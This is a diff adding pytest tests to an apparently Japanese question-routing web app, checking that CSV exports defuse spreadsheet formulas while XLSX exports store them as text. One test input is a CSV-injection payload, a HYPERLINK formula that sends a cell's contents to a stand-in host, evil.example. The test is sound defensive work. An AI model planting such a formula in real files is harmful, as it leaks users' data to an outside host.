@@ -151,6 +151,33 @@ def test_xlsx_upload_and_xlsx_download(client, tfidf_bundle_dir: Path) -> None:
     assert sheet["B3"].data_type == "s"  # a question starting with "=" is text, not a formula
 
 
+def test_csv_download_defuses_formulas_and_the_xlsx_keeps_them_as_text(client, tfidf_bundle_dir: Path) -> None:
+    # Questions a customer could send to run a formula on the agent's machine (OWASP, "CSV
+    # Injection"), and ordinary ones that merely start with "-" or "+".
+    formulas = ['=HYPERLINK("http://evil.example/?q="&A1,"詳細")', "+81 90 1234 5678 に電話ください", "-- 山田 太郎",
+                "@担当者 荷物が届きません", QUESTIONS[1]]
+    text = "質問\n" + "".join(f'"{q.replace(chr(34), chr(34) * 2)}"\n' for q in formulas)
+    job, results = route_file(client, text.encode("utf-8"), "formulas.csv")
+    expected = expected_rows(tfidf_bundle_dir, list(enumerate(formulas, start=2)))
+    downloaded = list(csv.reader(io.StringIO(client.get(job + "/results.csv").data.decode("utf-8-sig"), newline="")))
+    assert [row[1] for row in downloaded[1:]] == ["'" + q for q in formulas[:4]] + [QUESTIONS[1]]
+    assert [row[:1] + row[2:] for row in downloaded[1:]] == [row[:1] + row[2:] for row in expected]
+    # The preview (2 rows) and the workbook show the questions exactly; the workbook types them as text.
+    assert "<td>=HYPERLINK(&#34;http://evil.example/?q=&#34;&amp;A1,&#34;詳細&#34;)</td>" in results
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get(job + "/results.xlsx").data)).worksheets[0]
+    assert [sheet.cell(row=r, column=2).value for r in range(2, 7)] == formulas
+    assert all(sheet.cell(row=r, column=2).data_type == "s" for r in range(2, 7))
+    # A second download is the same file.
+    assert list(csv.reader(io.StringIO(client.get(job + "/results.csv").data.decode("utf-8-sig"), newline=""))) == downloaded
+
+
+def test_spreadsheet_text() -> None:
+    assert file_jobs.spreadsheet_text("=1+1") == "'=1+1"
+    assert file_jobs.spreadsheet_text("\t=1") == "'\t=1"
+    assert file_jobs.spreadsheet_text("荷物が届きません -1") == "荷物が届きません -1"
+    assert file_jobs.spreadsheet_text("") == ""
+
+
 def test_undecodable_file_names_the_line(client) -> None:
     data = "質問\n届きません\n".encode("utf-8") + b"\xff\xfe broken\n"
     answer = upload(client, data, "bad.csv")
